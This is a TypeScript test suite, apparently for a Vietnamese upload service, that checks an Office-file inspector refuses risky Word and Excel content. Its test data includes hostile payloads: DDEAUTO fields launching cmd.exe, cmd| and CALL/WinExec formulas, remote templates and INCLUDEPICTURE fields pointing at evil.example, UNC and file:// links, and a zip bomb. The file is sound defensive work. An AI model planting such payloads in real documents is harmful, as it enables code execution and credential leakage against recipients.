import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Document, ExternalHyperlink, ImageRun, Packer, Paragraph } from 'docx';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import writeXlsx from 'write-excel-file/node';
import { Refusal } from '../../domain/problems.ts';
import { inspectOfficeFile } from '../../files/office-file.ts';

const folder = mkdtempSync(path.join(os.tmpdir(), 'hostile-'));
afterAll(() => rmSync(folder, { recursive: true }));

/** What is said of such bytes, null where they pass. */
async function refusalOf(bytes: Buffer): Promise<string | null> {
  const file = path.join(folder, 'file');
  writeFileSync(file, bytes);
  try {
    await inspectOfficeFile(file);
    return null;
  } catch (failure) {
    if (failure instanceof Refusal) return failure.code;
    throw failure;
  }
}

let docx: Buffer;
let xlsx: Buffer;
beforeAll(async () => {
  const picture = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    'base64',
  );
  const children = [
    new Paragraph('Báo cáo thành tích'),
    new Paragraph({
      children: [
        new ExternalHyperlink({ link: 'https://hungyen.gov.vn', children: [] }),
        new ImageRun({ type: 'png', data: picture, transformation: { width: 9, height: 9 } }),
      ],
    }),
  ];
  docx = await Packer.toBuffer(new Document({ sections: [{ children }] }));
  xlsx = await writeXlsx([[{ value: 'Họ và tên' }], [{ value: 'Nguyễn Thị An' }]]).toBuffer();
});

/** What is put into a file, by name; with the type that its list of contents gives it, where it has none by its ending. */
type Parts = Record<string, string | Buffer | { type: string; content: string | Buffer }>;

async function withParts(base: Buffer, parts: Parts): Promise<Buffer> {
  const archive = await JSZip.loadAsync(base);
  let types = (await archive.file('[Content_Types].xml')?.async('string')) ?? '';
  for (const [name, part] of Object.entries(parts)) {
    const isTyped = typeof part === 'object' && 'type' in part;
    archive.file(name, isTyped ? part.content : part);
    if (isTyped)
      types = types.replace('</Types>', `<Override PartName="/${name}" ContentType="${part.type}"/></Types>`);
  }
  if (!('[Content_Types].xml' in parts)) archive.file('[Content_Types].xml', types);
  return archive.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}
const withPart = (name: string, content: string | Buffer): Promise<Buffer> =>
  withParts(docx, { [name]: content });

const link = (attributes: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" ${attributes}/></Relationships>`;
const type = (name: string) => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`;
const elsewhere = 'Target="https://evil.example/a.dotm"';
const settings = 'word/_rels/settings.xml.rels';
const external = (name: string, target = 'https://evil.example/a') =>
  link(`Type="${type(name)}" Target="${target}" TargetMode="External"`);

const open = 'application/vnd.openxmlformats-officedocument.';
const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const inHeader = (xml: string, namespaces = ''): Parts => ({
  'word/header9.xml': {
    type: `${open}wordprocessingml.header+xml`,
    content: `<w:hdr ${word} ${namespaces}><w:p>${xml}</w:p></w:hdr>`,
  },
});
const run = (xml: string) => `<w:r>${xml}</w:r>`;
const mark = (kind: string) => run(`<w:fldChar w:fldCharType="${kind}"/>`);
const code = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
const field = (...codes: string[]) =>
  [mark('begin'), ...codes.map(code), mark('separate'), run('<w:t>1</w:t>'), mark('end')].join('');
const simple = (text: string) => `<w:fldSimple w:instr="${text}"/>`;
const sheetMain = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const inSheet = (xml: string): Parts => ({
  'xl/worksheets/sheet9.xml': {
    type: `${open}spreadsheetml.worksheet+xml`,
    content: `<worksheet xmlns="${sheetMain}">${xml}</worksheet>`,
  },
});
const cell = (formula: string) => inSheet(`<sheetData><row><c><f>${formula}</f></c></row></sheetData>`);
const typed = (name: string, ofType: string, content = '<x/>'): Parts => ({
  [name]: { type: ofType, content },
});
const vml = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"';

describe('what people send passes', () => {
  test('texts, pictures, tables, and what is no archive', async () => {
    for (const bytes of [docx, xlsx, Buffer.from('%PDF-1.7'), Buffer.alloc(0), Buffer.from('PK')])
      expect(await refusalOf(bytes)).toBe(null);
  });

  /** Real ones that come with a library; the last is after the strict standard. */
  test.each([
    'footnote-hyperlink',
    'text-box',
    'tables',
    'comments',
    'tiny-picture',
    'utf8-bom',
    'strict-format',
  ])('what Word itself wrote: %s', async (name) => {
    const file = path.join('node_modules/mammoth/test/test-data', `${name}.docx`);
    expect(await refusalOf(readFileSync(file))).toBe(null);
  });

  test.each<[string, () => Promise<Buffer>]>([
    ['a link to click', () => withPart(settings, external('hyperlink', 'https://hungyen.gov.vn/a?b=1'))],
    ['an address to write to', () => withPart(settings, external('hyperlink', 'mailto:a@hungyen.gov.vn'))],
    [
      'numbers of pages',
      () => withParts(docx, inHeader(field(' PAGE ', '\\* MERGEFORMAT') + simple(' NUMPAGES '))),
    ],
    [
      'contents, whose lines are links and page numbers',
      () =>
        withParts(
          docx,
          inHeader(
            `${mark('begin')}${code(' TOC \\o &quot;1-3&quot; \\h ')}${mark('separate')}${field(' HYPERLINK \\l "_Toc1" ', '')}${field('PAGEREF _Toc1 \\h')}${mark('end')}`,
          ),
        ),
    ],
    [
      'a field that is a link to click',
      () => withParts(docx, inHeader(field(' HYPERLINK "https://hung', 'yen.gov.vn" '))),
    ],
    [
      'a date, a sum, a choice with a field in it',
      () =>
        withParts(
          docx,
          inHeader(
            `${field('DATE \\@ "dd/MM/yyyy"')}${field('=SUM(ABOVE)')}${mark('begin')}${code('IF ')}${field('MERGEFIELD a')}${code(' = 1 "x"')}${mark('end')}`,
          ),
        ),
    ],
    [
      'formulas of the workbook itself',
      () =>
        withParts(
          xlsx,
          cell("SUM('Tờ 1'!A1:A3)+IF(A1=\"a|b!c\",VLOOKUP(B1,Bảng[[#All],[Họ tên]],2),'Q1:Q4'!B2)/Tờ2!A1"),
        ),
    ],
    [
      'a drawing of old, as Excel writes it',
      () =>
        withParts(xlsx, {
          'xl/drawings/vmlDrawing1.vml': {
            type: `${open}vmlDrawing`,
            content: `<xml ${vml}><v:shape><v:textbox><div>a<br>b</div></v:textbox><v:imagedata o:title=""/></v:shape></xml>`,
          },
        }),
    ],
    [
      'a chart with its numbers',
      async () =>
        withParts(docx, {
          ...typed(
            'word/charts/chart1.xml',
            `${open}drawingml.chart+xml`,
            '<c:f xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart">[Book1.xlsx]Sheet1!$A$1</c:f>',
          ),
          'word/charts/_rels/chart1.xml.rels': link(
            `Type="${type('package')}" Target="../embeddings/a.xlsx"`,
          ),
          'word/embeddings/a.xlsx': { type: `${open}spreadsheetml.sheet`, content: xlsx },
        }),
    ],
    [
      'a mathematical fraction',
      () =>
        withParts(
          docx,
          inHeader(
            '<m:f xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:num><m:t>a|b</m:t></m:num></m:f>',
          ),
        ),
    ],
    [
      'another ending that is only declared',
      async () => {
        const types = await (await JSZip.loadAsync(docx)).file('[Content_Types].xml')?.async('string');
        const bin = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>';
        return withPart('[Content_Types].xml', types?.replace('</Types>', bin) ?? '');
      },
    ],
  ])('%s', async (_what, bytes) => {
    expect(await refusalOf(await bytes())).toBe(null);
  });
});

const template = `Type="${type('attachedTemplate')}" ${elsewhere}`;
const rels = (name: string): Parts => ({ 'word/_rels/document.xml.rels': external(name) });

/** Each kind of what would run, be fetched or embedded, with a file of it. */
const kinds: [string, () => Parts][] = [
  ...[
    'image',
    'attachedTemplate',
    'oleObject',
    'frame',
    'subDocument',
    'control',
    'aFChunk',
    'video',
    'audio',
    'font',
    'header',
    'styles',
    'mailMergeSource',
    'mailMergeHeaderSource',
    'externalLinkPath',
    'xslt',
    'hdphoto',
    'chart',
    'package',
    'customXml',
    'aKindThatIsNotInvented',
  ].map((name): [string, () => Parts] => [`from elsewhere: ${name}`, () => rels(name)]),
  ...[
    'file:///C:/a.docx',
    'file://server/a',
    '\\\\server\\a',
    '//server/a',
    'smb://server/a',
    'ms-word:ofe|u|https://evil.example/a',
    'javascript:alert(1)',
    'search-ms:query=a',
    'http:\\\\server\\a',
    'a.docx',
  ].map((target): [string, () => Parts] => [
    `a link that leads not to the web: ${target}`,
    () => ({ [settings]: external('hyperlink', target) }),
  ]),
  ...[
    'word/_rels/header1.xml.rels',
    'word/_rels/footnotes.xml.rels',
    '_rels/.rels',
    'xl/_rels/workbook.xml.rels',
    'word/glossary/_rels/document.xml.rels',
    'customXml/_rels/item1.xml.rels',
    'WORD/_RELS/COMMENTS.XML.RELS',
  ].map((name): [string, () => Parts] => [
    `a picture from elsewhere, by ${name}`,
    () => ({ [name]: external('image') }),
  ]),
  ...[
    'aFChunk',
    'subDocument',
    'oleObject',
    'control',
    'attachedTemplate',
    'vbaProject',
    'keyMapCustomizations',
    'attachedToolbars',
    'externalLink',
    'connections',
    'queryTable',
    'volatileDependencies',
    'webextension',
    'webextensiontaskpanes',
    'ui/extensibility',
    'xlMacrosheet',
    'dialogsheet',
    'ctrlProp',
    'activeXControlBinary',
    'powerPivotData',
    'rdRichValueWebImage',
    'frame',
  ].map((name): [string, () => Parts] => [
    `within the file: ${name}`,
    () => ({ 'word/_rels/document.xml.rels': link(`Type="${type(name)}" Target="a.xml"`) }),
  ]),
  ...(
    [
      ['macros', 'word/vbaProject.bin', 'application/vnd.ms-office.vbaProject'],
      ['an old macro sheet', 'xl/macrosheets/sheet1.xml', 'application/vnd.ms-excel.macrosheet+xml'],
      ['a dialogue of old', 'xl/dialogsheets/sheet1.xml', `${open}spreadsheetml.dialogsheet+xml`],
      ['a control', 'word/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml'],
      ['a control of a sheet', 'xl/ctrlProps/a.xml', 'application/vnd.ms-excel.controlproperties+xml'],
      ['an object', 'word/embeddings/oleObject1.bin', `${open}oleObject`],
      ['a chunk of a page', 'word/a.xml', 'text/html'],
      ['a chunk of a letter', 'word/a.xml', 'message/rfc822'],
      ['a chunk of rich text', 'word/a.xml', 'application/rtf'],
      ['another workbook', 'xl/externalLinks/externalLink1.xml', `${open}spreadsheetml.externalLink+xml`],
      ['connections', 'xl/connections.xml', `${open}spreadsheetml.connections+xml`],
      ['a table that is asked for', 'xl/queryTables/queryTable1.xml', `${open}spreadsheetml.queryTable+xml`],
      [
        'data that come by themselves',
        'xl/volatileDependencies.xml',
        `${open}spreadsheetml.volatileDependencies+xml`,
      ],
      ['an add-in', 'word/webextensions/webextension1.xml', 'application/vnd.ms-office.webextension+xml'],
      ['keys for macros', 'word/customizations.xml', 'application/vnd.ms-word.keyMapCustomizations+xml'],
      ['a data model', 'xl/model/item.data', `${open}model+data`],
      [
        'pictures of the web in cells',
        'xl/richData/a.xml',
        'application/vnd.ms-excel.rdrichvaluewebimage+xml',
      ],
      ['a film', 'word/media/a.mp4', 'video/mp4'],
      ['a workbook with macros', 'word/embeddings/a.xlsm', 'application/vnd.ms-excel.sheet.macroEnabled.12'],
      [
        'a binary workbook',
        'word/embeddings/a.xlsb',
        'application/vnd.ms-excel.sheet.binary.macroEnabled.12',
      ],
      ['slides within a text', 'word/embeddings/a.pptx', `${open}presentationml.presentation`],
      ['a part of no known kind', 'word/a.xml', 'application/vnd.unheard-of+xml'],
      [
        'a macro type written otherwise',
        'word/a.xml',
        'application/vnd.ms-word.document.macro&#69;nabled.main+xml',
      ],
      ['what is called a workbook and is none', 'word/embeddings/a.xlsx', `${open}spreadsheetml.sheet`],
    ] as const
  ).map(([what, name, ofType]): [string, () => Parts] => [what, () => typed(name, ofType)]),
  ['a part without a type', () => ({ 'word/vbaProject.bin': 'x' })],
  [
    'macros under a name of their own',
    () => ({
      '[Content_Types].xml':
        '<Types><Override PartName="/a.xml" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    }),
  ],
  [
    'a template in single quotes and another order',
    () => ({ [settings]: link(`TargetMode='External' ${template}`) }),
  ],
  ['a template written in numbers', () => ({ [settings]: link(`${template} TargetMode="&#x45;xternal"`) })],
  [
    'a template in another encoding',
    () => ({
      [settings]: Buffer.from(`\ufeff${link(`${template} TargetMode="External"`)}`, 'utf16le'),
    }),
  ],
  ['an entity', () => ({ [settings]: `<!DOCTYPE a [<!ENTITY b "External">]><a/>` })],
  [
    'a stylesheet',
    () => ({ 'docProps/app.xml': `<?xml-stylesheet href="https://evil.example/a.xsl"?><a/>` }),
  ],
  ...[
    'INCLUDEPICTURE "https://evil.example/a.png" \\d',
    'INCLUDETEXT "\\\\\\\\server\\\\a.docx"',
    'IMPORT a',
    'INCLUDE a',
    'DDE excel a b',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    'LINK Excel.Sheet.12 "\\\\\\\\server\\\\a.xlsx"',
    'DATABASE \\d "a"',
    'RD "https://evil.example/a"',
    'MACROBUTTON a b',
    'AUTOTEXT a',
    'GLOSSARY a',
    'PRINT a',
    'FILLIN a',
    'HTMLCONTROL a',
    'CONTROL a',
    'NEWFIELD a',
    'HYPERLINK "file://server/a"',
    'HYPERLINK "\\\\\\\\server\\\\a"',
    'HYPERLINK a.docx',
    'includepicture "a"',
  ].flatMap((instruction): [string, () => Parts][] => {
    const escaped = instruction.replaceAll('"', '&quot;');
    return [
      [`the field ${instruction}`, () => inHeader(field(` ${escaped} `))],
      [`the short field ${instruction}`, () => inHeader(simple(` ${escaped} `))],
    ];
  }),
  [
    'a field over several runs',
    () => inHeader(field(' INCL', 'UDEPIC', 'TURE "https://evil.example/a.png"')),
  ],
  [
    'a field whose name is a field',
    () =>
      inHeader(
        `${mark('begin')}${field('QUOTE INCLUDETEXT')}${code('PAGE "https://evil.example"')}${mark('end')}`,
      ),
  ],
  [
    'a field in the code of another',
    () => inHeader(`${mark('begin')}${code('IF 1=1 ')}${field('INCLUDETEXT a')}${mark('end')}`),
  ],
  [
    'a field in what another says',
    () => inHeader(`${mark('begin')}${code('TOC')}${mark('separate')}${field('DDEAUTO a b')}${mark('end')}`),
  ],
  ['a field that has no end', () => inHeader(`${mark('begin')}${code('DDEAUTO a b')}`)],
  ['a field without a beginning', () => inHeader(code('DDEAUTO a b'))],
  [
    'a field beneath a change that may be taken back',
    () =>
      inHeader(
        `${mark('begin')}${code('PAGE')}${run('<w:delInstrText>DDEAUTO a b</w:delInstrText>')}${mark('end')}`,
      ),
  ],
  [
    'an address that another field says',
    () => inHeader(`${mark('begin')}${code('HYPERLINK ')}${field('QUOTE "file://a"')}${mark('end')}`),
  ],
  ...['footnotes', 'endnotes', 'footer', 'comments'].map((part): [string, () => Parts] => [
    `a field in ${part}`,
    () =>
      typed(
        `word/${part}9.xml`,
        `${open}wordprocessingml.${part}+xml`,
        `<w:a ${word}>${field('DDE a b')}</w:a>`,
      ),
  ]),
  ['a list of receivers', () => inHeader('<w:mailMerge><w:query w:val="SELECT 1"/></w:mailMerge>')],
  ['a chunk', () => inHeader('<w:altChunk/>')],
  ['another document within', () => inHeader('<w:subDoc/>')],
  ['a film from the web', () => inHeader('<wp15:webVideoPr xmlns:wp15="a" embeddedHtml="&lt;iframe>"/>')],
  [
    'a picture that is only linked',
    () => inHeader(`<a:blip xmlns:a="a" xmlns:r="${type('').slice(0, -1)}" r:link="rId1"/>`),
  ],
  ['an object that is only linked', () => inHeader('<o:OLEObject Type="Link"/>', vml)],
  [
    'a picture by address in a drawing of old',
    () => inHeader('<v:imagedata src="https://evil.example/a.png"/>', vml),
  ],
  [
    'a picture by address, as Office writes it',
    () => inHeader('<v:imagedata o:href="file://server/a"/>', vml),
  ],
  [
    'a vector picture that fetches',
    () =>
      typed(
        'word/media/a.svg',
        'image/svg+xml',
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a"/></svg>',
      ),
  ],
  [
    'a table that comes from elsewhere',
    () =>
      typed(
        'xl/pivotCache/a.xml',
        `${open}spreadsheetml.pivotCacheDefinition+xml`,
        '<pivotCacheDefinition><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>',
      ),
  ],
  ...[
    "cmd|'/C calc'!A0",
    'MSEXCEL|a!b',
    'WEBSERVICE("https://evil.example/"&amp;A1)',
    '_xlfn.WEBSERVICE(A1)',
    '_xlfn.IMAGE("https://evil.example")',
    'RTD("a","","b")',
    'CALL("kernel32","WinExec","JCJ","calc",0)',
    'REGISTER.ID("a","b")',
    '_xll.a()',
    'SQL.REQUEST("a")',
    "'\\\\server\\[a.xlsx]A'!A1",
    "'https://evil.example/[a.xlsx]A'!A1",
    '[a.xlsx]A!A1',
    '[1]A!A1',
    '[1]!A',
  ].flatMap((formula): [string, () => Parts][] => [
    [`the formula ${formula}`, () => cell(formula)],
    [
      `the name ${formula}`,
      () => inSheet(`<definedNames><definedName name="a">${formula}</definedName></definedNames>`),
    ],
    [
      `the rule ${formula}`,
      () => inSheet(`<dataValidation><formula1>${formula}</formula1></dataValidation>`),
    ],
  ]),
];

test.each(kinds)('refused for what would run, be fetched or is unknown: %s', async (_what, parts) => {
  const refusal = await refusalOf(await withParts(docx, parts()));
  expect(causes).toContain(refusal);
  // In a file within the file as well.
  const inner = await withParts(docx, parts());
  const outer = await withParts(docx, typed('word/embeddings/a.docx', `${open}wordprocessingml.document`));
  const archive = await JSZip.loadAsync(outer);
  const packed = archive.file('word/embeddings/a.docx', inner);
  expect(await refusalOf(await packed.generateAsync({ type: 'nodebuffer' }))).toBe(refusal);
});

const causes = ['has-macros', 'embeds-object', 'fetches-by-itself', 'unknown-part'];
/** What somebody is to do differs, so that each has a sentence of its own. */
test.each<[string, string, () => Parts]>([
  ['macros', 'has-macros', () => typed('word/vbaProject.bin', 'application/vnd.ms-office.vbaProject')],
  [
    'a macro sheet',
    'has-macros',
    () => typed('xl/macrosheets/a.xml', 'application/vnd.ms-excel.macrosheet+xml'),
  ],
  ['a field that runs a macro', 'has-macros', () => inHeader(field('MACROBUTTON a b'))],
  [
    'an equation of the old editor',
    'embeds-object',
    () => typed('word/embeddings/oleObject1.bin', `${open}oleObject`),
  ],
  [
    'a control',
    'embeds-object',
    () => typed('word/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml'),
  ],
  ['a letter within a text', 'embeds-object', () => typed('word/a.xml', 'message/rfc822')],
  [
    'slides within a text',
    'embeds-object',
    () => typed('word/embeddings/a.pptx', `${open}presentationml.presentation`),
  ],
  ['a template from elsewhere', 'fetches-by-itself', () => ({ [settings]: external('attachedTemplate') })],
  ['a picture from elsewhere', 'fetches-by-itself', () => ({ [settings]: external('image') })],
  ['a field that fetches', 'fetches-by-itself', () => inHeader(field('INCLUDETEXT "https://evil.example"'))],
  ['a formula of another workbook', 'fetches-by-itself', () => cell('[1]A!A1')],
  [
    'connections',
    'fetches-by-itself',
    () => typed('xl/connections.xml', `${open}spreadsheetml.connections+xml`),
  ],
  [
    'mail merge',
    'fetches-by-itself',
    () => inHeader('<w:mailMerge><w:query w:val="SELECT 1"/></w:mailMerge>'),
  ],
  ['a part of no known kind', 'unknown-part', () => typed('word/a.xml', 'application/vnd.unheard-of+xml')],
  ['an entity', 'unknown-part', () => ({ [settings]: `<!DOCTYPE a [<!ENTITY b "External">]><a/>` })],
])('%s is refused as what it is: %s', async (_what, code, parts) => {
  expect(await refusalOf(await withParts(docx, parts()))).toBe(code);
});

test('refused for what lies deeper than a file in a file in a file', async () => {
  let bytes = docx;
  const answers: (string | null)[] = [];
  for (let depth = 1; depth <= 3; depth++) {
    const archive = await JSZip.loadAsync(
      await withParts(docx, typed('word/embeddings/a.docx', `${open}wordprocessingml.document`)),
    );
    bytes = await archive.file('word/embeddings/a.docx', bytes).generateAsync({ type: 'nodebuffer' });
    answers.push(await refusalOf(bytes));
  }
  expect(answers).toEqual([null, null, 'embeds-object']);
});

test('a part that is there twice, by another case, is not taken', async () => {
  expect(await refusalOf(await withPart('WORD/DOCUMENT.XML', '<a/>'))).toBe('damaged-file');
});

test('refused for what it unpacks to, without unpacking it', async () => {
  const bomb = await withPart('word/media/a.bmp', Buffer.alloc(301 * 1024 * 1024));
  expect(bomb.length).toBeLessThan(1024 * 1024);
  const before = process.memoryUsage().rss;
  expect(await refusalOf(bomb)).toBe('unpacks-too-large');
  expect(process.memoryUsage().rss - before).toBeLessThan(100 * 1024 * 1024);
  const many = new JSZip();
  for (let i = 0; i < 3_001; i++) many.file(`${i}`, '');
  expect(await refusalOf(await many.generateAsync({ type: 'nodebuffer' }))).toBe('unpacks-too-large');
  expect(await refusalOf(await withPart(settings, Buffer.alloc(5 * 1024 * 1024, ' ')))).toBe(
    'unpacks-too-large',
  );
});

test('a part that is larger than it declares is not read on', async () => {
  const honest = await withPart(settings, Buffer.alloc(1024 * 1024, ' '));
  const declared = Buffer.alloc(4);
  declared.writeUInt32LE(1024 * 1024);
  // In the directory at the end, which is what is read.
  const at = honest.lastIndexOf(declared);
  honest.writeUInt32LE(10, at);
  expect(await refusalOf(honest)).toBe('damaged-file');
});

test('refused for its password, or as broken', async () => {
  const wrapped = Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(1024),
    Buffer.from('EncryptedPackage', 'utf16le'),
  ]);
  expect(await refusalOf(wrapped)).toBe('encrypted-file');
  const locked = Buffer.from(docx);
  locked.writeUInt16LE(
    locked.readUInt16LE(locked.lastIndexOf('PK\u0001\u0002') + 8) | 1,
    locked.lastIndexOf('PK\u0001\u0002') + 8,
  );
  expect(await refusalOf(locked)).toBe('encrypted-file');
  expect(await refusalOf(docx.subarray(0, docx.length - 30))).toBe('damaged-file');
});
